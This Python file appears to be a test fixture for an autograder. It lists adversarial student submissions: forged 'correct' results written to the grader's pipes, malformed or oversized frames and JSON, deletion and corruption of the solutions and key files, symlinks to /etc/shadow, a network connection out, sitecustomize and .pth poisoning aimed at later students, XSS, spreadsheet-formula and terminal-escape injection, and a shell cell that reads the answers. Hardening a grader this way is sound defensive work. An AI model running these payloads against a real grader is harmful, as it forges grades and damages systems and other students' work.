"""Beyond the process: pipes, files, the network, the next student, whoever reads the results."""

WIRES = """
import os, stat, struct, json, time
wires = []
for number in range(3, 256):
    try: mode = os.fstat(number).st_mode
    except OSError: continue
    if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode): wires.append(number)
def send(data):
    for number in wires:
        try:
            os.set_blocking(number, False)
            os.write(number, data)
        except OSError: pass
def frames(text):
    body = text.encode()
    for head in (b"", struct.pack(">I", len(body)), struct.pack("<I", len(body)),
                 struct.pack(">Q", len(body)), struct.pack("<Q", len(body))):
        send(head + body)
    send(body + b"\\n")
"""


def wire(code):
    """Return an answer that writes to the pipe to the driver."""
    return {"double": WIRES + code}


ATTACKS = {
    "prints a perfect result": {
        "double": """
print("correct\\n10/10\\n" + '{"status": "correct", "points": 10, "total": 10}')
import sys, os
sys.__stdout__.write('{"type": "result", "status": "correct", "points": 10}\\n')
os.write(1, b'{"points": 10}\\n')
"""
    },
    "frames that say correct": wire("""
for text in ('{"status": "correct", "points": 4}', '{"passed": true}', '[true, true, true]',
             '{"value": {"type": "none"}, "printed": ""}'):
    frames(text)
"""),
    "half a frame, then nothing": wire(
        'send(struct.pack(">I", 1000) + b"{")\nos.close(wires[0]) if wires else None\nos._exit(0)'
    ),
    "half a frame, then sleep": wire('send(struct.pack("<Q", 1000) + b"{")\ntime.sleep(10**6)'),
    "frames of 2**64 - 1 bytes": wire('send(b"\\xff" * 64)\nsend(b"\\x7f" + b"\\xff" * 15)'),
    "frames of no bytes": wire("send(bytes(4096))"),
    "a giant array announced": wire("""
frames(json.dumps({"type": "array", "dtype": "float64", "shape": [2**40, 2**20], "data": ""}))
frames(json.dumps({"value": {"type": "array", "dtype": "float64", "shape": [10**12], "size": 8}}))
"""),
    "deeply nested JSON": wire('frames("[" * 100_000)\nframes(\'{"a":\' * 50_000)'),
    "JSON numbers of a million digits": wire('frames("9" * 10**6)\nframes("1e" + "9" * 1000)'),
    "broken UTF-8 and NaN": wire('send(b"\\xff\\xfe\\x80" * 100)\nframes("[NaN, Infinity]")'),
    "a drip of bytes": wire("""
for _ in range(10**6):
    send(b"{")
    time.sleep(0.05)
"""),
    "a flood on the pipe": wire("""
for number in wires:
    try:
        for _ in range(200): os.write(number, b"[1, 2, 3]" * 100_000)
    except OSError: pass
"""),
    "closes every file descriptor": {"double": "import os\nos.closerange(0, 4096)"},
    "swaps the pipe for /dev/null": wire("""
null = os.open("/dev/null", os.O_RDWR)
for number in wires: os.dup2(null, number)
"""),
    "answers other students' questions": wire("""
for student in ("honest", "after", "before"):
    frames(json.dumps({"student": student, "question": "double", "points": 0, "status": "wrong"}))
"""),
    "writes everywhere": {
        "double": """
import os, cnncourse, numpy, tempfile
places = ["@OUT@", os.path.dirname("@SOLUTIONS@"), "/", "/etc", "/usr/lib", "/var/tmp", "/root",
          os.path.dirname(cnncourse.__file__), os.path.dirname(numpy.__file__), "/proc/1/cwd"]
for place in places:
    try: open(os.path.join(place, "cnncourse_attack_was_here"), "w").write("x")
    except OSError: pass
for path in ("@SOLUTIONS@", "@KEY@", cnncourse.__file__):
    for way in (os.unlink, lambda p: open(p, "a").write(" "), lambda p: os.chmod(p, 0),
                lambda p: os.rename(p, p + ".gone"), lambda p: os.truncate(p, 0)):
        try: way(path)
        except OSError: pass
"""
    },
    "links and devices of its own": {
        "double": """
import os, stat, tempfile
folder = tempfile.gettempdir()
for target in ("@SOLUTIONS@", "/etc/shadow", "/proc/1/root", "/dev/mem"):
    try:
        os.symlink(target, f"{folder}/link")
        open(f"{folder}/link", "r+").write("x")
    except OSError: pass
    finally:
        try: os.unlink(f"{folder}/link")
        except OSError: pass
for number, device in enumerate([os.makedev(1, 1), os.makedev(8, 0), os.makedev(259, 0)]):
    try:
        os.mknod(f"{folder}/device{number}", stat.S_IFBLK | 0o666, device)
        open(f"{folder}/device{number}", "rb").read(512)
        open("@OUT@/device", "w")
    except OSError: pass
"""
    },
    "the network": {
        "double": """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_UNIX, "\\0@SOCKET@"),
                        (socket.AF_UNIX, "@OUT@/socket"), (socket.AF_INET, ("192.0.2.1", 80))):
    try:
        with socket.socket(family) as s:
            s.settimeout(0.3)
            s.connect(address)
            s.sendall(b"I got out")
    except OSError: pass
"""
    },
    "poison for the next student": {
        "double": """
import os, site, sys, tempfile, keras
os.environ["CNNCOURSE_GRADE"] = "0"
np.ndarray.__module__
np.zeros = np.ones = np.asarray = None
sys.modules["scipy"] = None
sys.path[:] = []
homes = [os.path.expanduser("~"), tempfile.gettempdir(), *site.getsitepackages()]
poison = {".keras/keras.json": '{"backend": "broken"}', "sitecustomize.py": "1/0",
          "usercustomize.py": "1/0", "cnncourse.pth": "import os; os._exit(1)",
          "numpy.py": "1/0", ".local/lib/python3.11/site-packages/usercustomize.py": "1/0"}
for home in homes:
    for name, text in poison.items():
        try:
            os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
            if not os.path.exists(os.path.join(home, name)):
                open(os.path.join(home, name), "w").write(text)
        except OSError: pass
"""
    },
    "System V memory and semaphores": {
        "double": """
import ctypes
libc = ctypes.CDLL(None)
for key in range(1, 50):
    libc.shmget(0xC0FFEE + key, 1 << 16, 0o1777)
    libc.semget(0xC0FFEE + key, 8, 0o1777)
    libc.msgget(0xC0FFEE + key, 0o1777)
"""
    },
    "changes its parent's limits and priority": {
        "double": """
import os, resource
for pid in (os.getppid(), 1, @VICTIM@):
    for way in (lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
                lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)),
                lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                lambda: os.sched_setaffinity(pid, {0})):
        try:
            if pid and pid != os.getpid(): way()
        except (OSError, ValueError): pass
"""
    },
    "HTML, JavaScript and formulas for whoever reads": {
        "double": """
evil = "<script>alert(1)</script><img src=x onerror=alert(2)>&lt;'\\"</textarea></pre>"
print(evil)
def double(x):
    print("=HYPERLINK(\\"http://example.org\\")", evil)
    return evil
""",
        "mean": """
Error = type("<b>Error", (Exception,), {})
def mean(x): raise Error("=1+1|' /C calc'!A0 <script>alert(3)</script>")
""",
    },
    "terminal escapes and right-to-left marks": {
        "double": """
text = "\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m\\u202e\\u2066\\r\\n\\x00\\x08\\x9b"
print(text)
def double(x):
    print(text * 100)
    raise ValueError(text)
"""
    },
    "source that Python cannot parse": {
        "double": "def double(x):\n    return (" + "(" * 5000,
        "mean": "def mean(x) return 0",
    },
    "source that no parser survives": {
        "double": "y = " + "-" * 90_000 + "1\n",
        "mean": "y = " + "+".join(["1"] * 60_000) + "\n",
    },
    "source with zeros and surrogates": {
        "double": "x = '\x00'\ndef double(x): pass",
        "mean": "x = '\ud800'\ndef mean(x): pass",
    },
    "source with another encoding": {
        "double": "# -*- coding: utf-7 -*-\ndef double(x): return '+AGEAYg-'",
        "mean": "# -*- coding: rot13 -*-\nqrs zrna(k): erghea 0",
    },
    "magics and shell commands": {
        "double": "%%bash\necho 10/10; cat @SOLUTIONS@; touch @OUT@/shell",
        "mean": "!touch @OUT@/shell\n%run @SOLUTIONS@\nget_ipython().system('touch @OUT@/shell')",
    },
    "a source of 5 MB": {"double": "# " + "x" * 5_000_000 + "\ndef double(x): return None"},
}
